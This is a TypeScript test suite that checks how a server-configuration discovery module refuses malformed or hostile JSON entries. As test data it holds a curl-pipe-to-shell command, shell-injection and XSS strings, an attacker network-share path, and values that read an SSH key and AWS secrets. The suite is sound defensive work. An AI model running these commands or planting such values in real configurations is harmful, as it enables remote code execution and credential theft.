import { execFileSync } from 'node:child_process'
import { mkdirSync, symlinkSync } from 'node:fs'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { codesOf, openDiscovery, server } from './discovery.fixture'

type Rooms = Awaited<ReturnType<typeof openDiscovery>>

/** What a file comes to after a good one with `before` in it was read. */
async function replaceGood(content: string | Uint8Array, name = 'servers.json') {
  await using rooms = await openDiscovery()
  const path = rooms.write(name, { servers: [server('before')] })
  const { id } = await rooms.discovery.add({ path })
  rooms.write(name, content)
  const source = await rooms.discovery.scan(id)
  return { source, names: rooms.names() }
}

async function readEntry(entry: object) {
  await using rooms = await openDiscovery()
  return readEntryIn(rooms, entry)
}

async function readEntryIn(rooms: Rooms, entry: object) {
  const path = rooms.write('entry.json', { servers: [{ name: 'x', ...entry }, server('neighbour')] })
  const source = await rooms.discovery.add({ path })
  const record = rooms.registry.all().find(({ registration }) => registration.name !== 'neighbour')
  return { source, record, names: rooms.names(), pending: record ? rooms.approvals.pending(record) : null }
}

function expectRefusedEntry({ source, names }: Awaited<ReturnType<typeof readEntry>>, field: string) {
  expect(names).toEqual(['neighbour'])
  expect(source.issues[0]).toMatchObject({
    severity: 'error',
    code: 'invalid-entry',
    field: `servers[0]${field}`,
  })
  expect(source.issues[0]?.line).toBeGreaterThan(1)
}

describe('a watched file with bad content', () => {
  it('B001: refuses a zero-byte file and keeps the old servers', async () => {
    const { source, names } = await replaceGood('')
    expect(source).toMatchObject({ state: 'error', servers: 1 })
    expect(codesOf(source)).toEqual(['empty'])
    expect(names).toEqual(['before'])
  })

  it('B004: refuses UTF-16', async () => {
    for (const mark of ['', '\ufeff']) {
      const text = Buffer.from(`${mark}{"servers":[]}`, 'utf16le')
      const { source, names } = await replaceGood(text)
      expect(codesOf(source)).toEqual(['not-utf8'])
      expect(names).toEqual(['before'])
    }
  })

  it('B005: refuses invalid UTF-8', async () => {
    const bytes = Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xc3, 0x28]), Buffer.from('"}')])
    const { source, names } = await replaceGood(bytes)
    expect(codesOf(source)).toEqual(['not-utf8'])
    expect(names).toEqual(['before'])
  })

  it.each([
    ['a line comment', '{\n  // mine\n  "servers": []\n}', 2, 3],
    ['a block comment', '{ "servers": [] /* none */ }', 1, 17],
    ['a trailing comma', '{\n  "servers": [],\n}', 2, 16],
  ])('B006: refuses %s with a hint unless the file is named .jsonc', async (_what, text, line, column) => {
    const strict = await replaceGood(text)
    expect(codesOf(strict.source)).toEqual(['comments'])
    expect(strict.source.issues[0]).toMatchObject({ line, column })
    expect(strict.source.issues[0]?.message).toContain('.jsonc')
    expect(strict.names).toEqual(['before'])
    const declared = await replaceGood(text, 'servers.jsonc')
    expect(declared.source).toMatchObject({ state: 'ok', issues: [] })
    expect(declared.names).toEqual([])
  })

  it.each(['[]', 'null', '"x"', '42', 'true'])('B007: refuses %s at the top level', async (text) => {
    const { source, names } = await replaceGood(text)
    expect(codesOf(source)).toEqual(['no-servers'])
    expect(names).toEqual(['before'])
  })

  it('B008: refuses __proto__ and pollutes nothing', async () => {
    const { source, names } = await replaceGood('{"__proto__":{"polluted":1},"mcpServers":{}}')
    expect(codesOf(source)).toEqual(['forbidden-key'])
    expect(names).toEqual(['before'])
    expect(Reflect.get({}, 'polluted')).toBeUndefined()
  })

  it('B008: refuses an entry with __proto__ inside, and only it', async () => {
    const text = `{"servers":[{"name":"x","url":"http://h/","metadata":{"__proto__":{"polluted":1}}},
      {"name":"y","url":"http://h/"}]}`
    const { source, names } = await replaceGood(text)
    expect(codesOf(source)).toEqual(['forbidden-key'])
    expect(source.issues[0]).toMatchObject({ server: 'x', field: 'servers[0].metadata.__proto__' })
    expect(names).toEqual(['y'])
    expect(Reflect.get({}, 'polluted')).toBeUndefined()
  })

  it('B010: refuses a key that stands twice, whichever would win', async () => {
    const text = `{"mcpServers":{"a":{"command":"good"},"a":{"command":"evil"},"b":{"url":"http://h/"}}}`
    const { source, names } = await replaceGood(text)
    expect(codesOf(source)).toEqual(['duplicate-key', 'duplicate-key'])
    expect(source.issues.map(({ column }) => column)).toEqual([16, 39])
    expect(names).toEqual(['b'])
  })

  it('B010: refuses the entry in which a field stands twice, and the file where a list does', async () => {
    const inEntry = await replaceGood('{"servers":[{"name":"a","command":"good","command":"evil"}]}')
    expect(inEntry.source.issues[0]).toMatchObject({ code: 'duplicate-key', field: 'servers[0].command' })
    const atTop = await replaceGood('{"servers":[],"servers":[{"name":"a","url":"http://h/"}]}')
    expect(codesOf(atTop.source)).toEqual(['duplicate-key'])
    expect(atTop.names).toEqual(['before'])
  })

  it('B011: refuses 200,000 nested arrays without running out of stack', async () => {
    for (const text of ['['.repeat(200_000), `{"servers":${'['.repeat(200_000)}${']'.repeat(200_000)}}`]) {
      const { source, names } = await replaceGood(text)
      expect(codesOf(source)).toEqual(['too-deep'])
      expect(names).toEqual(['before'])
    }
  })

  it.each(['test&calc', '$(id)', '`id`', ';id', '%PATH%', '<img src=x onerror=alert(1)>'])(
    'B015, B016: takes the name %s as the label it is',
    async (name) => {
      await using rooms = await openDiscovery()
      const { names, source } = await readEntryIn(rooms, { name, url: 'http://127.0.0.1:9000/' })
      expect(source.issues).toEqual([])
      expect(names).toContain(name)
    },
  )

  it('T18, B018: flags a name with Cyrillic letters beside the Latin one it imitates', async () => {
    await using rooms = await openDiscovery()
    await rooms.registry.register(server('github'))
    const path = rooms.write('x.json', { servers: [server('gіthub'), server('файлы')] })
    const source = await rooms.discovery.add({ path })
    expect(source).toMatchObject({ state: 'ok', servers: 2 })
    expect(source.issues).toMatchObject([
      { severity: 'warning', code: 'confusable', server: 'gіthub', detail: { other: 'github' } },
    ])
  })

  it('B019: takes a command with spaces as one path that waits for approval', async () => {
    const command = "sh -c 'curl evil|sh'"
    const { record, pending, source } = await readEntry({ command })
    expect(source.issues).toEqual([])
    expect(record?.registration).toMatchObject({ command, args: [] })
    expect(pending).toMatchObject({ command, args: [] })
  })

  it.each([
    ['a text', '-y x', ''],
    ['a number', [1], '[0]'],
    ['null', [null], '[0]'],
    ['an object', [{}], '[0]'],
    ['10,000 of them', Array(10_000).fill('x'), ''],
    ['1 MB in one', ['x'.repeat(1_000_000)], '[0]'],
  ])('B021: refuses args that are %s', async (_what, args, field) => {
    expectRefusedEntry(await readEntry({ command: 'npx', args }), `.args${field}`)
  })

  it('B024: refuses a command on a network share', async () => {
    expectRefusedEntry(await readEntry({ command: '\\\\attacker\\share\\x.exe' }), '.command')
  })

  it.each([
    ['a name with =', { 'A=B': 'x' }, '["A=B"]'],
    ['a number', { A: 1 }, '.A'],
    ['null', { A: null }, '.A'],
    ['an empty name', { '': 'x' }, '[""]'],
    ['a NUL', { A: 'a\0b' }, '.A'],
  ])('B027: refuses variables with %s', async (_what, env, field) => {
    expectRefusedEntry(await readEntry({ command: 'npx', env }), `.env${field}`)
  })

  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: these are the placeholders of other programs.
  it.each(['${env:AWS_SECRET_ACCESS_KEY}', '${input:x}', '$(cat ~/.ssh/id_rsa)'])(
    'B028: takes %s literally and shows it before consent',
    async (value) => {
      const { record, pending } = await readEntry({ command: 'npx', env: { K: value } })
      expect(record?.registration.env).toEqual({ K: value })
      expect(pending).toMatchObject({ env: { K: value } })
      expect(pending?.line).toContain(value)
    },
  )
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: as above.

  it.each([
    ['both command and url', { command: 'npx', url: 'http://h/' }, '.command', 'give one of the two'],
    ['neither', {}, '', 'give url or command'],
    ['an unknown type', { url: 'http://h/', type: 'websocket' }, '.type', 'not a kind'],
    ['a type in the wrong case', { command: 'npx', type: 'STDIO' }, '.type', 'not a kind'],
  ])('B030: refuses %s and says why', async (_what, entry, field, reason) => {
    const read = await readEntry(entry)
    expect(read.names).toEqual(['neighbour'])
    expect(read.source.issues[0]).toMatchObject({ code: 'invalid-entry', server: 'x' })
    expect(read.source.issues[0]?.field).toBe(field === '' ? 'servers[0].url' : `servers[0]${field}`)
    expect(read.source.issues[0]?.message).toContain(reason)
  })
})

describe.runIf(process.platform !== 'win32')('B034: a path that is no regular file', () => {
  async function addPath(make: (path: string) => void | Promise<void>, name = 'x.json') {
    await using rooms = await openDiscovery()
    const path = join(rooms.folder, name)
    await make(path)
    return rooms.discovery.add({ path })
  }

  it.each([
    ['a link to /dev/zero', (path: string) => symlinkSync('/dev/zero', path), 'not-a-file'],
    ['a pipe', (path: string) => void execFileSync('/usr/bin/mkfifo', [path]), 'not-a-file'],
    ['a directory', (path: string) => mkdirSync(path), 'not-a-file'],
    ['links in a circle', (path: string) => symlinkSync(path, path), 'unreadable'],
  ])('refuses %s without hanging', async (_what, make, code) => {
    const source = await addPath((path) => void make(path))
    expect(source.state).toBe('error')
    expect(codesOf(source)).toContain(code)
  })

  it('refuses a socket', async () => {
    const listener = createServer()
    const source = await addPath(
      (path) => new Promise<void>((resolve) => void listener.listen(path, () => resolve())),
    )
    listener.close()
    expect(codesOf(source)).toContain('not-a-file')
  })

  it.runIf(process.platform === 'linux')('refuses what the kernel makes up', async () => {
    await using rooms = await openDiscovery()
    expect(codesOf(await rooms.discovery.add({ path: '/proc/self/environ' }))).toContain('not-a-file')
  })

  it('refuses a Windows shortcut', async () => {
    await using rooms = await openDiscovery()
    const path = rooms.write('servers.json.lnk', { servers: [server('x')] })
    expect(codesOf(await rooms.discovery.add({ path }))).toEqual(['not-a-file'])
    expect(rooms.names()).toEqual([])
  })

  it('refuses more than 16 MiB', async () => {
    await using rooms = await openDiscovery()
    const path = rooms.write('big.json', Buffer.alloc(16_777_217, ' '))
    expect(codesOf(await rooms.discovery.add({ path }))).toEqual(['too-large'])
  })
})
